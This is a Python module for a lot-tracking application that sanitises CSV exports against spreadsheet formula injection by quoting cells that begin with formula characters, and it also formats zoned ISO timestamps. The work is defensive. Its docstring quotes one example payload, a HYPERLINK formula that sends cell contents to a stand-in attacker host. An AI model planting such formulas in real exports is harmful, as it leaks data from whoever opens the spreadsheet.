"""CSV that a spreadsheet opens as data: the one CSV writer of every download and export
(`lotledger recall --csv`, the web app's /recall.csv, `lotledger export-fsma` CSVs).

The cells come from partners' records (shipment ids, lot codes, business names, documents),
and a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula
(`=HYPERLINK("https://evil.example/?"&A1, "click")`, DDE payloads). Following the OWASP rule
for CSV injection, such a cell, and one that starts with a tab or a carriage return, is
written with a leading single quote, which spreadsheets take as "this is text" and do not show.
A line feed and the fullwidth forms of the four signs (U+FF1D, U+FF0B, U+FF0D, U+FF20), which
some spreadsheets also read as formula starters, are treated alike. In a numeric column a plain
number (`-12.5`) is left as it is, so it stays a number.

Numbers (int, Decimal, float) and None are never formulas and pass untouched. Booleans are
written `true`/`false` (what JSON, XML Schema and every other export of ours say; Python's str()
would write `True`). A datetime is written as ISO 8601 with its zone (`2026-10-15T08:00:00Z` for
UTC): a time without a zone is ambiguous for a reader in another plant, so a naive datetime is a
programming error here (ValueError), not something to guess about. Any other value is written
as its str(), as csv.writer would.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Collection, Iterable
from datetime import datetime, timedelta
from decimal import Decimal
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


class Writable(Protocol):
    """A text stream (what csv.writer needs of it)."""

    def write(self, s: str, /) -> Any: ...


def cell(value: object, *, numeric: bool = False) -> object:
    """The value as it is safe to write in a CSV cell (see the module docstring).

    Raises ValueError for a datetime without a zone."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if value is None or isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, datetime):
        return iso_time(value)
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_STARTS) and not (numeric and _PLAIN_NUMBER.fullmatch(text)):
        return "'" + text
    return text


class SafeWriter:
    """csv.writer with every cell passed through `cell`; `numeric` holds the indices of the
    columns whose plain numbers stay numbers."""

    def __init__(self, stream: Writable, numeric: Collection[int] = ()) -> None:
        self._writer = csv.writer(stream)
        self._numeric = frozenset(numeric)

    def writerow(self, row: Iterable[object]) -> None:
        numeric = self._numeric
        self._writer.writerow([cell(v, numeric=i in numeric) for i, v in enumerate(row)])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: Writable, numeric: Collection[int] = ()) -> SafeWriter:
    """The CSV writer every part uses: `stream` is a text stream opened with newline=""."""
    return SafeWriter(stream, numeric)


def iso_time(value: datetime) -> str:
    """ISO 8601 with the zone: `Z` for UTC, else the offset. Raises ValueError when `value` is
    naive (no zone: the reader could not tell which clock it is on)."""
    offset = value.utcoffset()
    if offset is None:
        raise ValueError(f"a time without a zone cannot go in a CSV: {value.isoformat()}")
    text = value.isoformat()
    return text.removesuffix("+00:00") + "Z" if offset == timedelta(0) else text
